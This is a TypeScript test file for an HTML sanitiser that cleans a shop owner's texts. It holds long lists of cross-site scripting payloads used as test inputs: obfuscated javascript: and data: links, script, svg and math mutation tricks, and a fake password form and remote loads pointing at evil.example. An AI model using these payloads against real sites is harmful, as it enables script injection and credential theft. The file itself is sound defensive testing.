import { parse } from 'node-html-parser'
import { addSectionAnchors } from './lay-out-text'
import { plainText, sanitiseHtml } from './sanitise-html'

describe('sanitiseHtml', () => {
  it('wraps tables, so that they can be scrolled by keyboard', () => {
    const table = '<table><tbody><tr><td>Ένα</td></tr></tbody></table>'
    expect(sanitiseHtml(`<p>Πριν</p>${table}`)).toBe(
      `<p>Πριν</p><div data-block="table" role="group" aria-label="Πίνακας" tabindex="0">${table}</div>`,
    )
  })

  it('removes attributes of tables', () => {
    expect(sanitiseHtml('<table onclick="x()" style="position:fixed"></table>')).toBe(
      '<div data-block="table" role="group" aria-label="Πίνακας" tabindex="0"><table></table></div>',
    )
  })

  it('keeps questions with their answers, without attributes (R375)', () => {
    expect(
      sanitiseHtml('<details open ontoggle="x()"><summary id="a">α</summary><p>β</p></details>'),
    ).toBe('<details><summary>α</summary><p>β</p></details>')
  })

  it('drops elements that could run, load or collect input', () => {
    const hostile =
      '<p onclick="x()">α</p><script>x()</script><img src=x onerror=x()><form><input></form><a href="javascript:x()">β</a>'
    expect(sanitiseHtml(hostile)).toBe('<p>α</p><a rel="noopener noreferrer nofollow">β</a>')
  })
})

const evil = 'https://evil.example'

/** Links that keep their text and lose their address (A1-5). */
const runningLinks = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  '\tjavascript:alert(1)',
  '\u0001javascript:alert(1)',
  '\u00a0javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'java\rscript:alert(1)',
  'java&#9;script:alert(1)',
  'java&Tab;script:alert(1)',
  'java&NewLine;script:alert(1)',
  'javascript&colon;alert(1)',
  'javascript&#58;alert(1)',
  'javascript&#x3a;alert(1)',
  '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)',
  '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)',
  'javascript:/*--></title></style></textarea></script><svg onload=alert(1)>',
  'java<!-- -->script:alert(1)',
  'javascript://evil.example/%0aalert(1)',
  'data:text/html,&lt;script>alert(1)&lt;/script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  ' data:text/html,x',
  'DATA:image/svg+xml,&lt;svg onload=alert(1)>',
  'vbscript:msgbox(1)',
  'blob:https://evil.example/1',
  'file:///etc/passwd',
  'filesystem:https://evil.example/x',
  'view-source:https://evil.example',
  'intent://evil.example#Intent;end',
  'ftp://evil.example/x',
  'ws://evil.example',
  '//evil.example',
  '\\\\evil.example',
  '/\\evil.example',
  '\\/evil.example',
  '/\t/evil.example',
  '/\n/evil.example',
  '\t//evil.example',
] as const

/** Markup that runs, loads, covers the page, collects input or takes a name (A1-5, A1-7). */
const hostileMarkup = [
  '<script>alert(1)</script>',
  '<script src=//evil.example/x.js></script>',
  '<scr<script>ipt>alert(1)</script>',
  '<<script>alert(1)//<</script>',
  '<script/x>alert(1)</script >',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<img src=x onerror=alert(1)>',
  '<img srcset="//evil.example/a 1x">',
  '<picture><source srcset=//evil.example/a></picture>',
  '<video src=x onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,x"></object>',
  '<embed src="//evil.example/x.swf">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href="//evil.example/">',
  '<style>*{display:none}</style>',
  '<style>@import "//evil.example/x.css"</style>',
  '<form action=//evil.example><input name=password><button>Σύνδεση</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<button formaction="javascript:alert(1)">α</button>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<select autofocus onfocus=alert(1)><option>α</option></select>',
  '<details open ontoggle=alert(1)>α</details>',
  '<body onload=alert(1)>',
  '<marquee onstart=alert(1)>α</marquee>',
  '<template><script>alert(1)</script></template>',
  '<dialog open>α</dialog>',
  '<p onclick=alert(1) onmouseover=alert(1)>α</p>',
  '<p style="position:fixed;inset:0">α</p>',
  '<p id=config>α</p>',
  '<a name=config href=/about>α</a>',
  '<p class="sr-only" data-flagged hidden>α</p>',
  '<h2 id="___gatsby">α</h2>',
  '<a href="/about" target=_blank onclick=alert(1) ping=//evil.example>α</a>',
  '<a href="/about" rel=opener>α</a>',
  '<th scope="col" onclick=alert(1)>α</th>',
  '<table background="javascript:alert(1)"><tr><td background=//evil.example>α</td></tr></table>',
  '<ol start="1" style="x"><li value="javascript:alert(1)">α</li></ol>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<xss onbeforecopy=alert(1) contenteditable>α</xss>',
  '<p title="<img src=x onerror=alert(1)>">α</p>',
  '"><img src=x onerror=alert(1)>',
  '<a href="x"onclick="alert(1)">α</a>',
  '<a/href="javascript:alert(1)"/onclick=alert(1)>α</a>',
  '<img/src="x"/onerror=alert(1)//',
  '<p <script>alert(1)</script>>α</p>',
  // Text that becomes markup when a browser parses what was kept.
  '<textarea></textarea/><img src=x onerror=alert(1)></textarea>',
  '<xmp></xmp/><img src=x onerror=alert(1)></xmp>',
  '<svg><textarea></svg><img src=x onerror=alert(1)></textarea>',
  '<svg><xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><xmp><img src=x onerror=alert(1)></xmp></math>',
  '<math><mi><textarea><mglyph><img src=x onerror=alert(1)>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<noembed><img src=x onerror=alert(1)></noembed>',
  '<noframes></noframes/><img src=x onerror=alert(1)></noframes>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<title><p title="</title><img src=x onerror=alert(1)>">',
  '<option><style></option></select><img src=x onerror=alert(1)></style>',
  '<table><td><svg><textarea></table><img src=x onerror=alert(1)>',
  '<details><summary><svg><title><img src=x onerror=alert(1)></title></svg></summary></details>',
  // Animations that set an address.
  '<svg><a><animate attributeName=href values="javascript:alert(1)" /><text>α</text></a></svg>',
  '<svg><a><set attributeName=href to="javascript:alert(1)" /><text>α</text></a></svg>',
  '<a href="/about"><svg><animate attributeName=href from="javascript:alert(1)"></svg>α</a>',
] as const

/** Elements and attributes allowed in texts of the shop's owner, with our wrapper of tables. */
const allowed: Readonly<Record<string, readonly string[]>> = Object.fromEntries(
  'p br hr ul li blockquote strong em b i u s sub sup code pre table thead tbody tr td h3 h4 details summary'
    .split(' ')
    .map((name) => [name, [] as string[]])
    .concat([
      ['a', ['href', 'rel']],
      ['h2', ['id']],
      ['ol', ['start']],
      ['th', ['scope']],
      ['div', ['data-block', 'role', 'aria-label', 'tabindex']],
    ]),
)

/** Forbidden parts that are left in some HTML, as a browser parses it. */
function leftovers(html: string): string[] {
  const { body } = new DOMParser().parseFromString(html, 'text/html')
  return [...body.querySelectorAll('*')].flatMap((element) =>
    element
      .getAttributeNames()
      .filter((name) => !allowed[element.localName]?.includes(name))
      .map((name) => `${element.localName}[${name}]`)
      .concat(element.localName in allowed ? [] : [element.localName]),
  )
}

const cleaned = (html: string) => addSectionAnchors(sanitiseHtml(html)).html
const linkTo = (href: string) => `<p><a href="${href}">Δείτε</a></p>`

it.each(runningLinks)('keeps the text of a link to %j, without its address (A1-5)', (href) => {
  const html = cleaned(linkTo(href))
  const [link] = parse(html).querySelectorAll('a')
  expect(plainText(html)).toContain('Δείτε')
  const target = link?.getAttribute('href')
  const at = target === undefined ? null : new URL(target, 'https://shop.example')
  expect([undefined, 'https://shop.example']).toContain(at?.origin)
})

it.each(hostileMarkup)('removes active parts of %j (A1-5, A1-7)', (payload) => {
  const html = cleaned(`<p>Πριν</p>${payload}<p>Μετά</p>`)
  expect(leftovers(html)).toEqual([])
  expect(html).toContain('<p>Πριν</p>')
  expect(html).not.toMatch(/<!--|javascript:|evil\.example"/i)
})

it('marks external links noopener, noreferrer and nofollow', () => {
  const rel = 'rel="noopener noreferrer nofollow"'
  expect(sanitiseHtml(linkTo(evil))).toBe(`<p><a href="${evil}" ${rel}>Δείτε</a></p>`)
  expect(sanitiseHtml(linkTo('/about'))).toBe('<p><a href="/about">Δείτε</a></p>')
  expect(sanitiseHtml(linkTo('#enotita-1'))).toBe('<p><a href="#enotita-1">Δείτε</a></p>')
})

it.each(['&lt;script&gt;alert(1)&lt;/script&gt;', '1 &lt; 2 &amp;&amp; 3 &gt; 2', '&amp;lt;b&gt;'])(
  'leaves the text %j unchanged',
  (text) => {
    expect(sanitiseHtml(`<p>${text}</p>`)).toBe(`<p>${text}</p>`)
  },
)
